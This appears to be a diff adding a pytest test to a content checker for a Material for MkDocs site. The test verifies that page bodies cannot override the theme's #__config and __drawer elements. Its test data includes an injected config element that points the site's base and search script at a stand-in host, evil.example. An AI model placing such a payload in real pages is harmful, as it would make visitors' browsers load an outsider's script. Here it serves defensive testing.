@@ -355,3 +355,24 @@ def test_a_file_name_that_is_not_plain_text_is_refused(site, capsys, name, said)
     status, err = check(site, capsys)
     line = line_of(path, "attachments")
     assert status == 1 and f"czj-00001.md:{line}: 错误 attachments" in flat(err) and "的文件名" + said in flat(err)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<p id="__config">{"base": "https://evil.example/", "search": "https://evil.example/w.js"}</p>',
+        "## 设置 {: #__config }",
+        "<div id=' __drawer'>x</div>",
+    ],
+)
+def test_a_body_cannot_stand_in_for_the_themes_own_elements(site, capsys, body):
+    """Material reads its settings from #__config: a body's element of that id, earlier in the page,
+    would be read instead (an outsider made the page ask another host for files)."""
+    path = site.good(body=f"正文。\n\n{body}\n")
+    status, err = check(site, capsys)
+    line = path.read_text(encoding="utf-8").split("\n").index(body) + 1
+    assert status == 0 and f"czj-00001.md:{line}: 警告 " in flat(err) and "id（以 __ 开头）会被删除" in flat(err)
+    assert site.mkdocs("build").returncode == 0
+    page = site.html("xxgk/czj/2024-00001/index.html")
+    assert len(re.findall(r'id="__config"', page)) == 1 and '<script id="__config"' in page
+    assert 'id="__drawer"' not in page.split('class="md-content"', 1)[1]
